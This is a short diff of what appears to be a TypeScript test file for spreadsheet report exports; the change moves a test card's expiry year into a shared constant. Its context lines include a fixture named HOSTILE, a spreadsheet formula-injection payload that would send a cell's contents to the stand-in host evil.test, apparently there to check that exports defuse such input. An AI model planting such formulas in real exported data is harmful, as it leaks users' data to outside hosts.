@@ -10,6 +10,7 @@ import { getOptionalContext } from "../../../app/web/guard.server";
 import { as, signIn, type SignedIn } from "../../support/auth";
 import { useTestDatabase } from "../../support/db";
 import { download, minorOf, readCsv } from "./helpers";
+import { CARD_EXP_YEAR } from "../../support/cards";
 
 /**
  * Excel workbooks of every report, read back with exceljs as a spreadsheet program reads
@@ -21,7 +22,7 @@ import { download, minorOf, readCsv } from "./helpers";
 const t = useTestDatabase({ seed: "demo" });
 
 const COFFEE = { merchantId: "mer_demo_coffee" };
-const IR_CARD = { number: "6037990000000006", expMonth: 12, expYear: new Date().getUTCFullYear() + 2, cvc: "123" };
+const IR_CARD = { number: "6037990000000006", expMonth: 12, expYear: CARD_EXP_YEAR, cvc: "123" };
 const PERSIAN = 'قهوه اسپرسو، "ویژه" & <شیر>';
 const HOSTILE = '=HYPERLINK("http://evil.test/?x="&A1,"Click")';
 
